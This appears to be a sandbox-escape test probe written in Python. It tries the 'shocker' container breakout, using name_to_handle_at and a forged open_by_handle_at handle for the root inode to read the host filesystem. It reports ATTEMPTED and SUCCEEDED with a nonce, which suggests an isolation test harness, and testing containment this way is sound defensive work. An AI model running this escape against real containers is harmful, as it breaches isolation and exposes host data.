"""Tries: to open files by handles instead of names, past the mounts (the "shocker" of early containers).
Kind: reading
Seen: inside, the kernel made or opened a handle of a host's folder.
Control: not shown, opening by handle needs a capability that an ordinary user never has.
"""

import ctypes
import json
import os
import sys

world = json.loads(sys.stdin.readline())
nonce = world["nonce"]

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(136)
handle[0:4] = (128).to_bytes(4, "little")
mount = ctypes.c_int()
print("ATTEMPTED", nonce, flush=True)
here = os.open("/", os.O_PATH | os.O_DIRECTORY)
libc.name_to_handle_at(here, b".", handle, ctypes.byref(mount), 0)
opened = libc.open_by_handle_at(here, handle, os.O_RDONLY)
print(opened, ctypes.get_errno())
root = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(4, "little") + (0).to_bytes(4, "little")
again = libc.open_by_handle_at(here, ctypes.create_string_buffer(root, 136), os.O_RDONLY)
if opened >= 0 or again >= 0:
    print("SUCCEEDED", nonce, flush=True)
